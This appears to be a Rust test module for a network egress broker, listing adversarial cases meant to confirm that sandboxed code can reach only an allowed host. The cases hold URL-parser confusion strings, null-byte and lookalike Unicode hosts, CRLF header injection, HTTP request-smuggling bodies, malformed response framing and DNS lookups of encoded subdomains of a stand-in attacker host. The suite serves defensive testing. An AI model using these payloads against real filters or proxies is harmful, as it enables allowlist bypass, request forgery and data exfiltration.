//! N: URLs, headers and bodies that two readers could take for two things.

use super::servers::{PUBLIC, ok, read_request};
use super::{Case, Grants};
use crate::harness::Attack;

/// Each is tried as a record and by two libraries.
fn hosts() -> Vec<Attack> {
    let case = |id, property, code| {
        Case::new(id, property, code)
            .unseen("[]", "a URL is read once, into the value that is decided, dialled and sent")
    };
    vec![
        case(
            "N-14",
            "a URL that names two hosts reaches neither",
            &[
                r"print(unrefused(['https://api.allowed.test@evil.test/', 'https://evil.test#api.allowed.test', 'https://evil.test\\@api.allowed.test', 'https://api.allowed.test%2f@evil.test', 'https://evil.test@api.allowed.test/', 'https://a:b@api.allowed.test/', 'https://api.allowed.test\\.evil.test/', 'https://evil.test?@api.allowed.test/', 'https://evil.test;@api.allowed.test/', 'https:/\\api.allowed.test/', 'https:api.allowed.test', '//api.allowed.test/']))",
            ],
        ),
        case(
            "N-16",
            "a zero byte in a host ends nothing",
            &[
                r"import http.client
found = through(['https://evil.test\0.allowed.test/', 'https://api.allowed.test\0.evil.test/', 'https://api.allowed.test/\0', 'https://api.allowed.test%00.evil.test/'])
for tunnel in 'evil.test\0.allowed.test', 'evil.test':
    try:
        connection = http.client.HTTPConnection('api.allowed.test', 80)
        connection.set_tunnel(tunnel, 80)
        connection.request('GET', '/')
        found.append(connection.getresponse().read())
    except Exception:
        pass
print(found)",
            ],
        ),
        case(
            "N-19",
            "a host that only looks like the one that is allowed is another host",
            &[
                "print(through(['https://%s/' % host for host in ('evilallowed.test', 'allowed.test.evil.test', 'api-allowed.test', 'api.allowed.test.evil.test', 'xapi.allowed.test', 'api.allowed.tes', 'allowed.test', 'a.api.allowed.test', 'api.allowed.test.allowed.test')]))",
            ],
        ),
        case(
            "N-23",
            "a host that is escaped or half an address is none",
            &[
                "print(unrefused(['https://%61pi.allowed.test/', 'https://[::1].api.allowed.test/', 'https://[api.allowed.test]/', 'https://api.allowed.test[::1]/', 'https://api%2eallowed.test/', 'https://[::1', 'https://::1/', 'https://api..allowed.test/', 'https://.api.allowed.test/']))",
            ],
        ),
        Case::new(
            "N-14b",
            "a library that reads a URL in its own way reaches the allowed host or nobody",
            &[
                r"urls = ['http://api.allowed.test@evil.test/echo', 'http://evil.test#api.allowed.test', 'http://evil.test\\@api.allowed.test/echo', 'http://api.allowed.test%2f@evil.test/echo', 'http://evil.test@api.allowed.test/echo', 'http://api.allowed.test\\.evil.test/echo', 'http://evil.test?@api.allowed.test/', 'http://%61pi.allowed.test/echo', 'http://[::1].api.allowed.test/', 'http://api%2eallowed.test/echo', 'http://api..allowed.test/', ' http://api.allowed.test/echo', 'http://api.allowed.test/echo\n', 'http://api.allowed.test\r\n/echo', 'http://api.allowed.test\0.evil.test/echo', '//api.allowed.test/echo', 'http:api.allowed.test']
heads = [head.lower() for head in by_library(urls)]
print(heads != [], all('host: api.allowed.test\r\n' in head for head in heads))",
            ],
        )
        .prepare(|net| net.answer(&format!("{PUBLIC}:80"), ok))
        .expect(
            "True True; looked up: api.allowed.test; dialled: 93.184.215.14:80",
            "what a library made of a URL is read again, and that is decided and sent",
        ),
        Case::new(
            "N-22",
            "a host in another script is never taken for the one that is allowed",
            &[
                r"print([raw('https://%s/' % host) in ('denied', 'invalid') for host in ('\uff41pi.allowed.test', 'api\u3002allowed.test', 'api.\u0430llowed.test', 'xn--api-.allowed.test', 'xn--pi-7kc.allowed.test', 'api.a\u00adllowed.test', 'api.allowed\u200d.test', 'api.allowed.te\u017ft', 'stra\u00dfe.test', '\u03c2.test')])",
            ],
        )
        .grants(Grants::Hosts(&["api.allowed.test", "api.allowed.test:80", "strasse.test", "xn--4xa.test"]))
        .unseen(
            &format!("[{}]", ["True"; 10].join(", ")),
            "a host is written in its one form, in letters of ASCII, or refused",
        ),
    ]
}

fn lines() -> Vec<Attack> {
    vec![
        Case::new(
            "N-17",
            "nothing that ends a line or splits a word is sent in a URL or header",
            &[
                r"found = unrefused(['https://api.allowed.test/a\r\nHost: evil.test', 'https://api .allowed.test/', 'https://api\t.allowed.test/', 'https://api.allowed.test/a b', 'https://api.allowed.test\r\n/', 'https://api.allowed.test/\n', ' https://api.allowed.test/'])
for name, value in [('X-A\r\nHost', 'evil.test'), ('X-A', 'b\r\nHost: evil.test'), ('X-A', 'b\nc'), ('X-A', 'b\0c'), ('X A', 'b'), ('X-A:', 'b'), ('', 'b'), ('X-\xe4', 'b'), ('Host', 'a\r\nX: y'), ('X-A', 'b\x7f')]:
    answer = raw('http://api.allowed.test/', headers=[(name, value)])
    if answer not in ('denied', 'invalid'):
        found.append((name, answer))
    try:
        found.append(library('http://api.allowed.test/', headers={name: value}))
    except Exception:
        pass
print(found)",
            ],
        )
        .unseen("[]", "a header or URL is one that can be written in one way, or none"),
        Case::new(
            "N-17b",
            "a method is one of a list and holds nothing else",
            &[
                r"print({raw('http://api.allowed.test/', method=method) for method in ('GET / HTTP/1.1\r\nX: y', 'GET\t', 'GET ', ' GET', '', 'G\0ET', 'GET,POST')})",
            ],
        )
        .unseen("{'invalid'}", "a method is looked up in a list and sent from it"),
        Case::new(
            "N-28",
            "a target that names another host is at most a path of the one that is allowed",
            &[
                r"import http.client
heads = []
for target in ('http://evil.test/', 'https://evil.test/', '//evil.test/', 'evil.test:80', '*', '@evil.test/', '/\r\nHost: evil.test', ':81/', '.evil.test/', '/echo'):
    for headers in {}, {'Host': 'evil.test'}:
        try:
            connection = http.client.HTTPConnection('api.allowed.test', 80)
            connection.request('GET', target, headers=headers)
            heads.append(connection.getresponse().read().decode())
        except Exception:
            pass
print(all(head.startswith('GET /') and 'host: api.allowed.test\r\n' in head for head in heads), raw('http://api.allowed.test/', headers=[('Host', 'evil.test')]))",
            ],
        )
        .prepare(|net| net.answer(&format!("{PUBLIC}:80"), ok))
        .expect(
            "True denied; looked up: api.allowed.test; dialled: 93.184.215.14:80",
            "the target and the host of a message come from the URL that was decided",
        ),
    ]
}

fn framing() -> Vec<Attack> {
    vec![
        Case::new(
            "N-29",
            "code has no say in how its message is framed",
            &[
                r"names = ['Content-Length', 'Transfer-Encoding', 'Connection', 'Keep-Alive', 'TE', 'Trailer', 'Expect', 'Host', 'Proxy-Connection', 'HTTP2-Settings', 'content-length', 'TRANSFER-ENCODING']
print({raw('http://api.allowed.test/', method='POST', body=b'x', headers=[(name, '5')]) for name in names}, raw('http://api.allowed.test/', headers=[('X-A', 'b\r\n c')]))",
            ],
        )
        .unseen("{'denied'} invalid", "headers that frame a message are the broker's own"),
        Case::new(
            "N-29b",
            "a second request in a body is no request",
            &[
                r"second = b'GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n'
chunk = b'0\r\n\r\n' + second
print([raw('http://api.allowed.test/', method='POST', body=body) for body in (second, chunk)])",
            ],
        )
        .prepare(|net| {
            let served = std::sync::Arc::clone(&net.served);
            net.answer(&format!("{PUBLIC}:80"), move |_| {
                let count = served.lock().map_or(0, |served| served.len());
                ok(&format!("request {count}"))
            })
        })
        .expect(
            "['request 1', 'request 2']; looked up: api.allowed.test; dialled: 93.184.215.14:80",
            "the length of a body is the one that was counted",
        ),
        Case::new(
            "N-29c",
            "a response that two readers would frame differently is a fault",
            &["print(words(['http://api.allowed.test/'] * 6))"],
        )
        .prepare(|net| {
            let turn = std::sync::atomic::AtomicUsize::new(0);
            net.serve(&format!("{PUBLIC}:80"), move |mut stream| {
                use std::io::Write as _;
                const ANSWERS: &[&str] = &[
                    "Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
                    "Transfer-Encoding: chunked\r\n\r\nzz\r\n",
                    "Content-Length: -1\r\n\r\n",
                    "Content-Length: 5, 6\r\n\r\nhello!",
                    "Transfer-Encoding: chunked\r\n\r\n5;a=\"\r\nhello\r\n",
                    "Content-Length : 5\r\n\r\nhello",
                ];
                if read_request(&mut stream).is_some() {
                    let at = turn.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    let text = ANSWERS.get(at % ANSWERS.len()).copied().unwrap_or_default();
                    let _ = stream.write_all(format!("HTTP/1.1 200 OK\r\n{text}").as_bytes());
                }
            })
        })
        .control(
            super::USUAL,
            super::nothing_more,
            "print(raw('http://api.allowed.test/'))",
            super::ANSWERED,
        )
        .expect(
            "protocol closed protocol protocol closed protocol; looked up: api.allowed.test; dialled: 93.184.215.14:80",
            "responses are read by a strict reader, and what it does not take ends the exchange",
        ),
    ]
}

fn look_ups() -> Vec<Attack> {
    vec![
        Case::new(
            "N-34",
            "a name that nobody allowed is never looked up, whatever asks for it",
            &[
                r"import socket
found = []
for name in ('mzxw6ytboi.evil.test', 'mzxw6ytboi.api.allowed.test', 'evil.test'):
    for ask in (lambda: socket.getaddrinfo(name, 80), lambda: socket.gethostbyname(name), lambda: socket.create_connection((name, 80), 1)):
        try:
            found.append(ask())
        except Exception:
            pass
found += through(['http://mzxw6ytboi.evil.test/', 'https://mzxw6ytboi.evil.test/x'])
print(found)",
            ],
        )
        .unseen("[]", "there are no sockets, and a request is decided before its name is looked up"),
        Case::new(
            "N-35",
            "the verdict comes before the look-up, for each part of a request",
            &[
                "print(words(['http://evil.test/', 'http://api.allowed.test:81/', 'http://api.allowed.test/admin']), raw('http://api.allowed.test/v1/x', method='POST'), raw('http://api.allowed.test/v1/x'))",
            ],
        )
        .grants(Grants::Policy("[[net]]\nid = \"n\"\nhosts = [\"api.allowed.test\"]\nports = [80]\npaths = [\"/v1/**\"]\n"))
        .control(
            Grants::Policy("[[net]]\nid = \"n\"\nhosts = [\"api.allowed.test\"]\nports = [80]\npaths = [\"/v1/**\"]\n"),
            super::nothing_more,
            "print(raw('http://api.allowed.test/v1/x'))",
            super::ANSWERED,
        )
        .expect(
            "denied denied denied denied hello; looked up: api.allowed.test; dialled: 93.184.215.14:80",
            "host, port, path and method are decided on first; only then is the name looked up",
        ),
    ]
}

/// Every attack of this kind.
pub(super) fn all() -> Vec<Attack> {
    let mut all = hosts();
    all.extend(lines());
    all.extend(framing());
    all.extend(look_ups());
    all
}
